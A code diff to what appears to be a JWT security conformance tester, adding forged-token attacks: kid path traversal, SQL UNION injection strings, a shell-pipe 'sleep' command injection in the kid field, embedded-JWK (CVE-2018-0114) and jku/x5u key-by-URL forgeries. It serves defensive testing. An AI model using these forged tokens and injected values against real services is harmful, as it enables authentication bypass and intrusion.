@@ -8,12 +8,13 @@ HMAC secret) is written here byte by byte with :mod:`hmac` and :mod:`hashlib`.
 
 The attacks follow jwt_tool's playbook and RFC 8725: alg none in four spellings (CVE-2015-2951),
 a stripped signature (CVE-2020-28042), a tampered payload under the original signature, RS/HS key
-confusion (CVE-2016-10555), kid path traversal to /dev/null, and ECDSA's zero signature
-(CVE-2022-21449, "psychic signatures").
+confusion (CVE-2016-10555), kid injection (paths, SQL, a shell pipe), a key embedded in the header
+(CVE-2018-0114), and ECDSA's zero signature (CVE-2022-21449, "psychic signatures").
 """
 
 from __future__ import annotations
 
+import datetime
 import hashlib
 import hmac
 import json
@@ -23,11 +24,22 @@ from dataclasses import dataclass
 from typing import Any
 
 import jwt as pyjwt
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import ec, rsa
+from cryptography.x509.oid import NameOID
+from jwt.algorithms import ECAlgorithm, RSAAlgorithm
 
 from .tokens import Jwt, b64url_encode, header_summary
 
 NONE_SPELLINGS = ("none", "None", "NONE", "nOnE")
 KID_TRAVERSAL = "../../../../../../dev/null"
+KID_KNOWN_FILE = "../../../../../../proc/sys/kernel/randomize_va_space"
+KID_KNOWN_CONTENT = b"2\n"  # ASLR on: the content of that file on every stock Linux host
+KID_SQL_KEY = b"k"
+KID_SQL_SINGLE = "x' UNION SELECT 'k'--"
+KID_SQL_DOUBLE = 'x" UNION SELECT "k"--'
+KID_PLAIN = "key"
 # r = s = 0: raw r||s as JWS carries it (RFC 7518 §3.4), and the DER form Java's verifier parses
 # (jwt_tool's "psychic signature" MAYCAQACAQA).
 ES256_ZERO_RAW = bytes(64)
@@ -201,12 +213,53 @@ def key_confusion(token: Jwt, public_key_pem: bytes) -> list[ForgedToken]:
 
 
 def kid_injection(token: Jwt) -> list[ForgedToken]:
-    """A ``kid`` that walks out of the key folder to /dev/null, HS256-signed with the empty key it reads."""
+    """A ``kid`` the server may use as a path or in SQL, HS256-signed with the key that lookup would yield.
+
+    Path traversal to /dev/null (the empty key) and to a file whose content every Linux host shares
+    (``randomize_va_space``: ``2`` and a newline); SQL injection in both quote styles, whose UNION makes
+    the key lookup return ``k``. The command variant is judged by timing: see :func:`kid_command`.
+    """
+    variants: list[tuple[str, bytes, str]] = [
+        (KID_TRAVERSAL, b"", "path traversal to /dev/null, HMAC keyed with the empty key"),
+        ("/dev/null", b"", "absolute path /dev/null, HMAC keyed with the empty key"),
+        (KID_KNOWN_FILE, KID_KNOWN_CONTENT,
+         "path traversal to a file with known content (randomize_va_space), HMAC keyed with its content '2\\n'"),
+        (KID_SQL_SINGLE, KID_SQL_KEY, "SQL injection with ' (UNION SELECT 'k'), HMAC keyed with 'k'"),
+        (KID_SQL_DOUBLE, KID_SQL_KEY, 'SQL injection with " (UNION SELECT "k"), HMAC keyed with \'k\''),
+    ]
     forged = []
-    for kid in (KID_TRAVERSAL, "/dev/null"):
+    for kid, key, how in variants:
         header = {**token.header, "alg": "HS256", "kid": kid}
-        forged.append(ForgedToken(f"header {header_summary(header)}, HMAC keyed with the empty key",
-                                  hmac_signed(header, token.segments[1], b"")))
+        forged.append(ForgedToken(f"{how}; header {header_summary(header)}",
+                                  hmac_signed(header, token.segments[1], key)))
+    return forged
+
+
+def kid_command(token: Jwt, *, sleep: int | None) -> ForgedToken:
+    """A ``kid`` with a shell pipe into ``sleep`` (or, as the timing baseline, the same kid without it)."""
+    kid = f"{KID_PLAIN}|sleep {sleep}" if sleep else KID_PLAIN
+    header = {**token.header, "alg": "HS256", "kid": kid}
+    label = (f"command injection (kid '{kid}'): an answer {sleep} s late means a shell ran it" if sleep
+             else f"the plain kid '{kid}' (timing baseline for the command variant)")
+    return ForgedToken(label, hmac_signed(header, token.segments[1], b""))
+
+
+def embedded_jwk(token: Jwt) -> list[ForgedToken]:
+    """The login's claims re-signed with fresh RSA and EC keys whose public JWK rides in the header (CVE-2018-0114).
+
+    A verifier that takes the key from the token itself accepts anything anyone signs.
+    """
+    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    ec_key = ec.generate_private_key(ec.SECP256R1())
+    forged = []
+    for alg, key, family in (("RS256", rsa_key, RSAAlgorithm(RSAAlgorithm.SHA256)),
+                             ("ES256", ec_key, ECAlgorithm(ECAlgorithm.SHA256))):
+        jwk = json.loads(family.to_jwk(key.public_key()))
+        header = {**{k: v for k, v in token.header.items() if k != "kid"}, "alg": alg, "jwk": jwk}
+        head = segment(header)
+        signature = family.sign(f"{head}.{token.segments[1]}".encode("ascii"), key)
+        forged.append(ForgedToken(f"the login's claims signed {alg} with a fresh {jwk['kty']} key, its public JWK "
+                                  f"in the header's jwk", assemble(head, token.segments[1], signature)))
     return forged
 
 
@@ -243,3 +296,42 @@ def expired_signed(token: Jwt, *, key: Any, algorithm: str, lifetime: int | None
         forged = pyjwt.encode(payload, key, algorithm=algorithm, headers=headers)
     return ForgedToken(f"signed with the profile's signing key ({algorithm}), exp {payload['exp']} "
                        f"({int((now or time.time()) - payload['exp'])} s ago)", forged)
+
+
+def resigned(token: Jwt, payload: dict[str, Any], *, key: Any, algorithm: str, label: str) -> ForgedToken:
+    """``payload`` under the token's own header, signed with the profile's signing key (a test deployment's)."""
+    headers = {k: v for k, v in token.header.items() if k != "alg"}
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # short test secrets make pyjwt warn
+        forged = pyjwt.encode(payload, key, algorithm=algorithm, headers=headers)
+    return ForgedToken(label, forged)
+
+
+def fresh_rsa_key() -> rsa.RSAPrivateKey:
+    """A key nobody but this run holds: what an attacker signs with."""
+    return rsa.generate_private_key(public_exponent=65537, key_size=2048)
+
+
+def jwks_document(key: rsa.RSAPrivateKey, kid: str) -> bytes:
+    """A JWKS (RFC 7517 §5) holding the public half of ``key`` under ``kid``."""
+    jwk = {**json.loads(RSAAlgorithm.to_jwk(key.public_key())), "kid": kid, "use": "sig", "alg": "RS256"}
+    return json.dumps({"keys": [jwk]}).encode("utf-8")
+
+
+def certificate_pem(key: rsa.RSAPrivateKey) -> bytes:
+    """A self-signed X.509 certificate for ``key``, PEM, as an ``x5u`` URL serves it (RFC 7515 §4.1.5)."""
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "authconform x5u test")])
+    now = datetime.datetime.now(datetime.UTC)
+    certificate = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
+                   .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
+                   .not_valid_after(now + datetime.timedelta(days=1)).sign(key, hashes.SHA256()))
+    return certificate.public_bytes(serialization.Encoding.PEM)
+
+
+def key_by_url(token: Jwt, *, parameter: str, url: str, key: rsa.RSAPrivateKey, kid: str) -> ForgedToken:
+    """The login's claims signed RS256 with ``key``, the header's ``jku`` or ``x5u`` naming where its public half is."""
+    header = {**token.header, "alg": "RS256", "kid": kid, parameter: url}
+    head = segment(header)
+    signature = RSAAlgorithm(RSAAlgorithm.SHA256).sign(f"{head}.{token.segments[1]}".encode("ascii"), key)
+    return ForgedToken(f"the login's claims signed RS256 with a fresh key, header {parameter} {url}",
+                       assemble(head, token.segments[1], signature))
